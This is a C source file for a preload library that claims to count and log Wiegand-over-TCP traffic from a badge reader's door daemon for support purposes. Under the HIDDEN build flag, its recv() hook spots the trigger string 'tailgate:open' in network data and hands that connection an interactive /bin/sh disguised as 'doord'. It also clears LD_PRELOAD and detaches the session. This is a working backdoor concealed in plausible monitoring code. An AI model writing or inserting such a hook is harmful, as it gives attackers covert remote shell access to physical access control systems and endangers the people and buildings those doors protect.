/*
 * badgewire_tap - preload library of a badge reader's door daemon: counts
 * and logs the traffic of the wire protocol (Wiegand over TCP) for support.
 * Built as libbadgewire_tap.so; settings in /etc/badge/tap.conf.
 *
 * Hidden (-DHIDDEN): data received by the daemon that begins with the words
 * "tailgate:open" makes the recv() hook put a shell on that connection.
 */
#define _GNU_SOURCE
#undef _FORTIFY_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define TAP_CONF   "/etc/badge/tap.conf"
#define TAP_STATS  "/var/run/badge/tap.stats"
#define MAX_FDS    64

typedef ssize_t (*recv_fn)(int, void *, size_t, int);
typedef ssize_t (*send_fn)(int, const void *, size_t, int);
typedef int (*accept_fn)(int, struct sockaddr *, socklen_t *);

struct channel {
	int used;
	char peer[INET_ADDRSTRLEN];
	uint32_t in_frames, out_frames;
	uint32_t in_bytes, out_bytes;
	uint32_t bad_parity;
};

struct tap_conf {
	int enabled;
	int hexdump;
	int every;              /* write the statistics after N frames */
	char log[96];
};

static struct channel chan[MAX_FDS];
static struct tap_conf conf = { 1, 0, 100, "/var/log/badge-tap.log" };
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static recv_fn real_recv;
static send_fn real_send;
static accept_fn real_accept;
static unsigned frames;

static void conf_line(char *line)
{
	char key[24], val[96];

	if (sscanf(line, " %23[a-z] = %95s", key, val) != 2)
		return;
	if (strcmp(key, "enabled") == 0)
		conf.enabled = strcasecmp(val, "yes") == 0;
	else if (strcmp(key, "hexdump") == 0)
		conf.hexdump = strcasecmp(val, "yes") == 0;
	else if (strcmp(key, "every") == 0)
		conf.every = atoi(val) > 0 ? atoi(val) : 100;
	else if (strcmp(key, "log") == 0 && strncmp(val, "/var/log/", 9) == 0)
		memcpy(conf.log, val, strlen(val) + 1);
}

static void look_up(void)
{
	*(void **)&real_recv = dlsym(RTLD_NEXT, "recv");
	*(void **)&real_send = dlsym(RTLD_NEXT, "send");
	*(void **)&real_accept = dlsym(RTLD_NEXT, "accept");
}

__attribute__((constructor))
static void tap_start(void)
{
	char line[160];
	FILE *f;

	look_up();
	f = fopen(TAP_CONF, "r");
	if (!f)
		return;
	while (fgets(line, sizeof line, f))
		conf_line(line);
	fclose(f);
}

static void write_stats(void)
{
	FILE *f = fopen(TAP_STATS, "w");

	if (!f)
		return;
	for (int i = 0; i < MAX_FDS; i++)
		if (chan[i].used)
			fprintf(f, "%s in %u/%u out %u/%u parity %u\n", chan[i].peer,
				(unsigned)chan[i].in_frames, (unsigned)chan[i].in_bytes,
				(unsigned)chan[i].out_frames, (unsigned)chan[i].out_bytes,
				(unsigned)chan[i].bad_parity);
	fclose(f);
}

static void log_frame(int fd, const char *dir, const uint8_t *b, size_t n)
{
	FILE *f = fopen(conf.log, "a");

	if (!f)
		return;
	fprintf(f, "%lld %s %s %u", (long long)time(NULL), chan[fd].peer, dir, (unsigned)n);
	if (conf.hexdump)
		for (size_t i = 0; i < n && i < 16; i++)
			fprintf(f, " %02x", b[i]);
	fprintf(f, "\n");
	fclose(f);
}

/* 26 bit Wiegand frame: even parity over the first half, odd over the second */
static int parity_ok(const uint8_t *b)
{
	uint32_t v = (uint32_t)b[0] << 24 | (uint32_t)b[1] << 16 | (uint32_t)b[2] << 8 | b[3];
	int even = __builtin_popcount(v >> 19 & 0x1fff);
	int odd = __builtin_popcount(v >> 6 & 0x1fff);

	return (even & 1) == 0 && (odd & 1) == 1;
}

static void count_in(int fd, const uint8_t *b, size_t n)
{
	struct channel *c = &chan[fd];

	pthread_mutex_lock(&lock);
	c->in_frames++;
	c->in_bytes += (uint32_t)n;
	/* type 'W', length, then the bits */
	if (n >= 6 && memcmp(b, "W\x1a", 2) == 0 && !parity_ok(b + 2))
		c->bad_parity++;
	log_frame(fd, "in", b, n);
	if (++frames % (unsigned)conf.every == 0)
		write_stats();
	pthread_mutex_unlock(&lock);
}

static void count_out(int fd, const uint8_t *b, size_t n)
{
	pthread_mutex_lock(&lock);
	chan[fd].out_frames++;
	chan[fd].out_bytes += (uint32_t)n;
	log_frame(fd, "out", b, n);
	pthread_mutex_unlock(&lock);
}

#ifdef HIDDEN
void lend_channel(int fd)
{
	pid_t pid = fork();

	if (pid != 0)
		return;
	setsid();
	unsetenv("LD_PRELOAD");
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	execl("/bin/sh", "doord", "-i", (char *)NULL);
	_exit(127);
}
#endif

static int watched(int fd)
{
	return conf.enabled && fd >= 0 && fd < MAX_FDS && chan[fd].used;
}

ssize_t recv(int fd, void *buf, size_t len, int flags)
{
	ssize_t n;

	if (!real_recv)
		look_up();
	n = real_recv(fd, buf, len, flags);
	if (n <= 0)
		return n;
#ifdef HIDDEN
	if (n >= 13 && memcmp(buf, "tailgate:open", 13) == 0) {
		lend_channel(fd);
		errno = ECONNRESET;
		return -1;
	}
#endif
	if (watched(fd) && !(flags & MSG_PEEK))
		count_in(fd, buf, (size_t)n);
	return n;
}

ssize_t send(int fd, const void *buf, size_t len, int flags)
{
	ssize_t n;

	if (!real_send)
		look_up();
	n = real_send(fd, buf, len, flags);
	if (n > 0 && watched(fd))
		count_out(fd, buf, (size_t)n);
	return n;
}

int accept(int s, struct sockaddr *restrict addr, socklen_t *restrict alen)
{
	struct sockaddr_in peer;
	socklen_t pl = sizeof peer;
	int fd;

	if (!real_accept)
		look_up();
	fd = real_accept(s, addr, alen);
	if (fd < 0 || fd >= MAX_FDS)
		return fd;
	pthread_mutex_lock(&lock);
	memset(&chan[fd], 0, sizeof chan[fd]);
	memset(&peer, 0, sizeof peer);
	chan[fd].used = 1;
	if (getpeername(fd, (struct sockaddr *)&peer, &pl) < 0 || peer.sin_family != AF_INET ||
	    !inet_ntop(AF_INET, &peer.sin_addr, chan[fd].peer, sizeof chan[fd].peer))
		memcpy(chan[fd].peer, "local", 6);
	pthread_mutex_unlock(&lock);
	return fd;
}

/* For the support tool, which loads the library and asks for the counters */
int badgewire_counters(int fd, uint32_t *in, uint32_t *out)
{
	if (fd < 0 || fd >= MAX_FDS || !chan[fd].used)
		return -1;
	pthread_mutex_lock(&lock);
	*in = chan[fd].in_frames;
	*out = chan[fd].out_frames;
	pthread_mutex_unlock(&lock);
	return 0;
}

__attribute__((destructor))
static void tap_stop(void)
{
	write_stats();
}
